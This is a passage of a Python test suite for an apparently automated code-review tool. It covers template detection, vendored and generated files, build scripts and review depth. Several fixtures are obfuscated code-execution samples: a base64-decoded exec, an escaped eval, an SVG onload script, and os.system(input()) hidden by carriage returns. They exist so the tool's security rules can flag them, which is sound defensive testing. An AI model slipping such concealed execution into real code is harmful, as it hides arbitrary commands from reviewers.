    head = dict.fromkeys(("a.ejs", "a.hbs", "a.mustache", "a.cshtml", "a.jsp"), "<p>x</p>\n")
    verdict = await review(change(tmp_path, {}, {**head, "a.pug": "p x\n"}))
    assert set(depths(verdict).values()) == {"code"}
    assert not gaps(verdict)


async def test_templates_are_named_by_their_kind(tmp_path: Path) -> None:
    head = {"app.py": "X = 1\n", "a.conf.j2": "{{ x }}\n", "b.tmpl": "{{ .X }}\n"}
    head["migrations/script.py.mako"] = "def upgrade():\n    ${upgrades}\n"
    head["charts/x/templates/a.yaml"] = "a: {{ .Values.a }}\n{{ if .b }}\n"
    verdict = await review(change(tmp_path, {}, head))
    assert {entry.path: entry.template for entry in verdict.checked if entry.template} == {
        "a.conf.j2": "Jinja",
        "b.tmpl": "Go",
        "charts/x/templates/a.yaml": "Go",
        "migrations/script.py.mako": "Mako",
    }
    assert "4 as text only (Go template, Jinja template, Mako template)" in read_line(verdict)
    assert verdict.status == "complete"


def test_without_a_default_branch_the_command_asks_for_a_base(tmp_path: Path) -> None:
    repo = change(tmp_path, {}, {"app.py": "X = 1\n"})
    repo.git("branch", "--move", "trunk")
    command = [sys.executable, "-m", "orchestrator", "review", "--quiet"]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, check=False)
    assert done.returncode == 2
    assert done.stderr.count("\n") == 1
    assert "--base HEAD~1" in done.stderr


def alone(settings: ReviewSettings) -> ReviewSettings:
    return replace(settings, provider="scripted", judge=False, pattern="single")


def judged_alone(settings: ReviewSettings) -> ReviewSettings:
    return replace(settings, provider="scripted", pattern="single")


async def test_what_agents_with_a_model_are_shown_is_read_as_code_once_they_report(
    tmp_path: Path,
) -> None:
    repo = change(tmp_path, {}, {"main.cob": "STOP RUN.\n", "tool.bin": b"\0\1" * 50})
    read = await review(
        repo, ScriptedModel({"generalist": [reports(summary="Read.")]}), adjust=alone
    )
    assert {entry.path: entry.read_by for entry in read.checked} == {"main.cob": ("generalist",)}
    assert read.depth == DepthCounts(code=1, text=0, none=1, share_as_code=0.5, hunks=1)
    assert "main.cob" not in gaps(read)
    failing = ScriptedModel({"generalist": [ModelError("no")] * 9})
    silent = await review(repo, failing, adjust=alone)
    assert depths(silent) == {"main.cob": "text"}


async def test_a_judged_review_relies_on_no_more_than_the_share_that_was_read(
    tmp_path: Path,
) -> None:
    app = {"app.py": '"""An app."""\n\nNAME = "app"\n'}

    async def confidence(path: Path, head: dict[str, str | bytes | None]) -> float | None:
        lines = {"generalist": [reports(summary="Read.")], "judge": [scores()]}
        verdict = await review(change(path, {}, head), ScriptedModel(lines), adjust=judged_alone)
        return verdict.confidence

    assert await confidence(tmp_path / "all", {**app}) == 1.0
    assert await confidence(tmp_path / "part", {**app, "tool.bin": b"\0\1" * 50}) == 0.75


DECODED = 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n'
GENERATED = {".gitattributes": "dist/** linguist-generated\n", "dist/a.js": "export const a = 1;\n"}


@pytest.mark.parametrize(
    ("base", "added", "rules"),
    [
        (
            {"vendor/lib/a.py": "", **GENERATED},
            {
                "vendor/lib/b.py": DECODED,
                "dist/b.js": "ev\\u0061l(text);\n",
                "vendor/b.svg": '<svg onload="go()"/>\n',
            },
            {
                "vendor/lib/b.py": "security.decoded-code",
                "dist/b.js": "security.hidden-code",
                "vendor/b.svg": "security.script-in-image",
            },
        ),
        # What is usual in a library, what base had already, and what cannot be parsed.
        (
            {"vendor/a.js": "", "vendor/a.py": DECODED, "vendor/c.py": DECODED, **GENERATED},
            {
                "vendor/b.js": "export const f = (x) => eval(x);\n",
                "vendor/a.py": f"{DECODED}# 2\n",
                "vendor/c.py": None,
                "vendor/new/c.py": DECODED,
                "vendor/c.js": "function ( {{{ eval(atob\n",
                "dist/b.js": "export const b = 1;\n",
            },
            {},
        ),
    ],
)
async def test_code_of_others_is_searched_for_severe_findings_only(
    tmp_path: Path, base: dict[str, str], added: dict[str, str | None], rules: dict[str, str]
) -> None:
    verdict = await review(change(tmp_path, base, {**added, "app.py": "X = 1\n"}))
    assert {finding.path: finding.rule for finding in verdict.findings} == rules
    assert len(verdict.findings) == len(rules)
    assert depths(verdict) == {"app.py": "code"}
    assert verdict.status == "complete"
    assert gaps(verdict) == {}
    assert {entry.path for entry in verdict.skipped} == {
        path for path in added if added[path] is not None
    }


async def test_the_short_report_names_files_that_are_not_reviewed(tmp_path: Path) -> None:
    files = {"vendor/b.js": "let b;\n", "app.py": "X = 1\n"}
    verdict = await review(change(tmp_path, {"vendor/a.js": ""}, files))
    assert verdict.verdict == "merge"
    short = render_verdict(verdict, width=120, detail="short").splitlines()
    assert short[2].startswith("Not reviewed, and no gap: vendor/b.js: vendored")


async def test_code_with_carriage_returns_alone_is_quoted(tmp_path: Path) -> None:
    """Python ends a line at each of them, and git does not: the file has one line."""
    shell = b"import os\r# x\ros.system(input())\r"
    after = b"import os\n# x\ros.system(input())\n"
    verdict = await review(change(tmp_path, {}, {"mac.py": shell, "mixed.py": after}))
    found = {f.path: f.start_line for f in verdict.findings if f.category == "security"}
    assert found == {"mac.py": 1, "mixed.py": 2}
    assert verdict.rejected == ()


async def test_the_report_says_that_a_script_became_executable(tmp_path: Path) -> None:
    repo = change(tmp_path, {}, {"run.sh": "#!/bin/sh\nls\n"})
    (repo.path / "run.sh").chmod(0o755)
    repo.commit({"app.py": "X = 1\n"})
    assert "Note     run.sh is executable now" in render_verdict(await review(repo), width=120)


async def test_builds_and_scripts_without_a_grammar_are_read(tmp_path: Path) -> None:
    head = {
        "build.gradle": "plugins { id 'java' }\n",
        "CMakeLists.txt": "project(a)\n",
        "Jenkinsfile": "node { sh 'make' }\n",
        "BUILD.bazel": 'cc_library(name = "a")\n',
        "gradlew.bat": "@echo off\n",
        "build.ps1": "Write-Output a\n",
        "a.tcl": "puts a\n",
        "configure.ac": "AC_OUTPUT\n",
        "A.xcodeproj/project.pbxproj": "// !$*UTF8*$!\n{\n}\n",
        "a.pyx": "cdef int a = 1\n",
        "default.nix": "{ }\n",
        "meson.build": "project('a')\n",
        "setup.iss": "[Setup]\n",
        "a.luau": "local a: number = 1\n",
        "a.vim": "let g:a = 1\n",
        "config.mak.uname": "A = 1\nall:\n\tls\n",
        "symbols.inc": "static int f() { return 1; }\n",
        "page.inc": "<?php function f() { return 1; }\n",
        ".ci/build": "#!/bin/sh\nls\n",
        "hooks/pre-commit.sample": "#!/bin/sh\nls\n",
        "message/End.json": '// A license.\n{"a": 1} // One.\n',
        "a.cu": "__global__ void f(int *a) { a[0] = 1; }\nvoid g(int *a) {\n  f<<<1, 2>>>(a);\n}\n",
        "a.cs": 'class A {\n  string F(int t) => $@"SELECT ""{t}""";\n  int G() => 1;\n}\n',
        "src/packages.lock.json": '{"dependencies": {}}\n',
    }
    verdict = await review(change(tmp_path, {}, head))
    assert (verdict.status, verdict.findings) == ("complete", ())
    assert set(depths(verdict).values()) == {"code"}


async def test_what_oxlint_reads_and_the_grammar_cannot_is_no_gap(tmp_path: Path) -> None:
    page = "export const a = <p>a && b & c <i>x</i> R&D</p>;\n"
    verdict = await review(change(tmp_path / "page", {}, {"a.tsx": page}))
    assert (verdict.status, depths(verdict)) == ("complete", {"a.tsx": "code"})
    broken = await review(change(tmp_path / "broken", {}, {"a.tsx": "export const a = <p>;\n"}))
    assert (broken.status, depths(broken)) == ("incomplete", {"a.tsx": "text"})


async def test_what_tests_of_a_parser_read_may_be_broken(tmp_path: Path) -> None:
    script, class_ = "let a = ;\n", "class A { void f( { }\n"
    given = {
        "tests/fixtures/a.js": script,
        "tests/unit/syntax/a.ts": script,
        "tests/data/a.py": "def f(:\n",
        "tests/fixtures/a.sh": "if [ 1 ; then\n",
        "tests/invalid/A.java": class_,
    }
    owed = {"tests/a.test.js": script, "src/samples/a.js": script, "tests/fixtures/A.java": class_}
    verdict = await review(change(tmp_path, {}, {**given, **owed}))
    assert set(gaps(verdict)) == set(owed)
    assert {entry.path for entry in verdict.skipped if not entry.gap} == set(given)


async def test_a_moved_file_is_settled_and_one_with_another_suffix_is_not(tmp_path: Path) -> None:
    text = "".join(f"STOP RUN {n}.\n" for n in range(9))
    jar = b"PK\3\4\0\0" + bytes(range(256))
    base: dict[str, str | bytes] = {"a.cob": text, "lib/a.jar": jar}
    head: dict[str, str | bytes | None] = {
        "a.cob": None,
        "lib/a.jar": None,
        "b.cob": text,
        "lib/b.jar": jar,
    }
    moved = await review(change(tmp_path / "moved", base, head))
    assert (moved.status, gaps(moved)) == ("complete", {})
    renamed: dict[str, str | bytes | None] = {"a.txt": None, "b.cob": text, "lib/b.jar": jar + b"!"}
    other = await review(change(tmp_path / "other", {"a.txt": text}, renamed))
    assert list(gaps(other)) == ["b.cob", "lib/b.jar"]


async def test_a_changelog_of_some_megabytes_is_read(tmp_path: Path) -> None:
    long = f"- {'Words of a change. ' * 20}\n" * 3_000
    verdict = await review(
        change(tmp_path, {"CHANGELOG.md": long}, {"CHANGELOG.md": "# A\n" + long})
    )
    assert (verdict.status, verdict.skipped) == ("complete", ())
